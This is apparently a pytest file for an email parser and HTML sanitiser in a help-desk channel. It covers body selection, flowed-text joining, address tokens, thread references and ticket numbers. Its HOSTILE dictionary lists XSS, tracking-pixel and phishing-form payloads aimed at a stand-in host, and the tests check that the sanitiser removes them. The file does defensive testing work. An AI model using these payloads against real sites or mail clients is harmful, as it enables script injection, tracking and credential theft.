"""The words of a mail: plain before HTML, HTML made safe, threads by address, id and number."""

from __future__ import annotations

import pytest
from mails import OFFICE, mail, multipart, parse

from channels.email import clean_html

PLAIN, HTML = "Content-Type: text/plain; charset=utf-8", "Content-Type: text/html; charset=utf-8"


def html(source):
    return mail(source, **{"Content-Type": "text/html; charset=utf-8"})


def test_plain_words_come_before_html_and_both_are_kept():
    message = parse(multipart((PLAIN, "Halo kata"), (HTML, "<p>Halo gaya</p>"), kind="alternative"))
    assert (message.body, message.html.strip()) == ("Halo kata", "<p>Halo gaya</p>")
    assert message.attachments == ()


def test_a_mail_of_html_only_is_read_as_text():
    source = "<style>p{color:red}</style><p>Mohon <b>data</b></p><ul><li>satu</li></ul><script>x</script>"
    message = parse(html(f"<html>{source}</html>"))
    assert [line.strip() for line in message.body.split("\n") if line.strip()] == ["Mohon data", "* satu"]


@pytest.mark.parametrize("plain", ["", "  ", "Lihat versi HTML di peramban Anda"])
def test_plain_words_that_say_nothing_give_way_to_html(plain):
    message = parse(multipart((PLAIN, plain), (HTML, "<p>Mohon data</p>"), kind="alternative"))
    assert message.body == "Mohon data"


def test_a_signature_below_the_html_is_no_file_and_stays_with_the_whole_letter():
    message = parse(multipart((HTML, "<p>Mohon data</p>"), (PLAIN, "-- \r\nmilis@contoh.example")))
    assert message.body == "Mohon data"
    assert "milis@contoh.example" in message.full_body
    assert message.attachments == ()


@pytest.mark.parametrize(
    ("subject", "parts", "body"),
    [
        ("Minta data", ((PLAIN, ""),), "Minta data"),
        ("", (("Content-Type: image/png", "x"),), "[hanya lampiran]"),
        ("", ((PLAIN, ""),), "[email kosong]"),
    ],
)
def test_a_mail_without_words_still_says_something(subject, parts, body):
    assert parse(multipart(*parts, subject=subject)).body == body


@pytest.mark.parametrize(
    ("delsp", "body", "read"),
    [
        ("no", "Baris yang \r\npanjang.\r\nBaris lain.\r\n dari spasi", "Baris yang panjang.\nBaris lain.\ndari spasi"),
        ("yes", "https://contoh.example/pan \r\njang", "https://contoh.example/panjang"),
        ("no", "Isi \r\n> kutipan \r\nsambung", "Isi \n> kutipan \nsambung"),  # nothing says whose the quoted words are
        ("no", "Isi\r\n-- \r\nSiti", "Isi"),
    ],
)
def test_lines_broken_for_transport_are_joined(delsp, body, read):
    kind = f"text/plain; charset=utf-8; format=flowed; delsp={delsp}"
    assert parse(mail(body, **{"Content-Type": kind})).body == read


def test_a_page_of_soft_lines_is_read_in_one_go():
    message = parse(mail("a \r\n" * 60_000, **{"Content-Type": "text/plain; format=flowed"}))
    assert len(message.body) > 100_000
    assert "\n" not in message.body


HOSTILE = {
    "script": "<script>alert(1)</script>Halo",
    "script in capitals, cut": "Halo<SCRIPT src=https://jahat.example/x.js",
    "event": '<p onclick="jahat()" onload=jahat()>Halo</p>',
    "link": '<a href="javascript:jahat()">Halo</a>',
    "link in disguise": '<a href=" java&#10;script:jahat()">Halo</a>',
    "data link": '<a href="data:text/html,<script>jahat()</script>">Halo</a>',
    "tracker": 'Halo<img src="https://jahat.example/1.gif" width=1 height=1>',
    "tracker by srcset": 'Halo<img srcset="https://jahat.example/1.gif 1x">',
    "image with an event": "Halo<img src=x onerror=jahat()>",
    "image in an attribute": '<a title="<img src=https://jahat.example/x onerror=jahat()>">Halo</a>',
    "picture": "<picture><source srcset=https://jahat.example/x></picture>Halo",
    "style": "<style>body{background:url(https://jahat.example/x)}</style>Halo",
    "style attribute": '<p style="background:url(https://jahat.example/x);position:fixed">Halo</p>',
    "background": '<table background="https://jahat.example/x"><tr><td>Halo</table>',
    "form": '<form action="https://jahat.example/x"><input name=sandi><button>Halo</button></form>',
    "frame": '<iframe src="https://jahat.example/x"></iframe>Halo',
    "object": '<object data="https://jahat.example/x"></object><embed src="https://jahat.example/x">Halo',
    "svg": "<svg><script>jahat()</script><a xlink:href='javascript:jahat()'>x</a></svg>Halo",
    "math": "<math><mtext><style><img src=x onerror=jahat()></style></mtext></math>Halo",
    "refresh": '<meta http-equiv=refresh content="0;url=https://jahat.example/x">Halo',
    "base": '<base href="https://jahat.example/">Halo',
    "link element": '<link rel=stylesheet href="https://jahat.example/x.css">Halo',
    "comment": "<!--[if mso]><script>jahat()</script><![endif]-->Halo",
    "id to overwrite": '<p id="pesan" name="x" class="bilah">Halo</p>',
}


@pytest.mark.parametrize("source", [pytest.param(source, id=name) for name, source in HOSTILE.items()])
def test_nothing_in_a_citizens_html_acts_or_calls_home(source):
    cleaned = clean_html(source).lower()
    assert "halo" in cleaned
    for word in ("jahat", "<script", "<img", "<form", "<input", "<iframe", "style", "onerror", "script:", " id="):
        assert word not in cleaned


def test_what_is_harmless_stays():
    table = '<table><tr><td colspan="2">1</td></tr></table>'
    cleaned = clean_html(f'<p>Halo <b>tebal</b> <a href="https://bps.example/x">tautan</a></p>{table}')
    for piece in ("<b>tebal</b>", 'href="https://bps.example/x"', 'rel="noopener noreferrer"', '<td colspan="2">1'):
        assert piece in cleaned


def test_a_picture_becomes_its_words():
    assert clean_html('<img alt="peta" src="cid:1">') == " [gambar: peta] "
    assert "<" not in clean_html('<img alt="&lt;script&gt;" src=x>').replace("&lt;", "")


@pytest.mark.parametrize("piece", ["<ul><li>", "<div>", "<b>", "<table><tr><td>", "<"])
def test_html_nested_without_end_is_shown_as_text(piece):
    cleaned = clean_html("Halo" + piece * (200_000 // len(piece)))
    assert "Halo" in cleaned
    assert cleaned.count("<") < 10


THREADED = {
    "plus address": {"to": "pst+ABC123@kantor.example"},
    "among others": {"to": "Budi <budi@contoh.example>", "cc": f'"PST" <{OFFICE}>, <PST+abc123@Kantor.Example>'},
    "delivered to": {"to": "undisclosed-recipients:;", "delivered_to": "pst+abc123@kantor.example"},
    "envelope": {"to": OFFICE, "x_original_to": "pst+abc123@kantor.example"},
}


@pytest.mark.parametrize("headers", [pytest.param(headers, id=name) for name, headers in THREADED.items()])
def test_the_token_of_our_address_is_found(headers):
    assert parse(mail(**headers)).token == "abc123"


@pytest.mark.parametrize("to", [OFFICE, "lain+abc@kantor.example", "pst+abc@lain.example", "pstx+abc@kantor.example"])
def test_nobody_elses_address_is_taken_for_ours(to):
    assert parse(mail(to=to)).token == ""


def test_the_mail_answered_comes_first_then_its_thread_from_the_nearest_back():
    thread = "<a@x.example>\r\n <b@x.example> <c@kantor.example>"
    message = parse(mail(in_reply_to="<c@kantor.example>", references=thread))
    assert message.refs == ("c@kantor.example", "b@x.example", "a@x.example")


def test_of_a_very_long_thread_the_nearest_mails_are_known():
    message = parse(mail(references=" ".join(f"<surat-{number}@contoh.example>" for number in range(500))))
    assert message.refs[0] == "surat-499@contoh.example"
    assert len(message.refs) == 20


@pytest.mark.parametrize(
    ("subject", "ticket"),
    [
        ("Re: Data [#K-2026-000123]", "K-2026-000123"),
        ("bls: k-2026-000123 mohon", "K-2026-000123"),
        ("K-2026-0001234", ""),
        ("Surat no. 12/K-2026", ""),
    ],
)
def test_a_number_in_the_subject_is_found(subject, ticket):
    assert parse(mail(subject=subject)).ticket == ticket
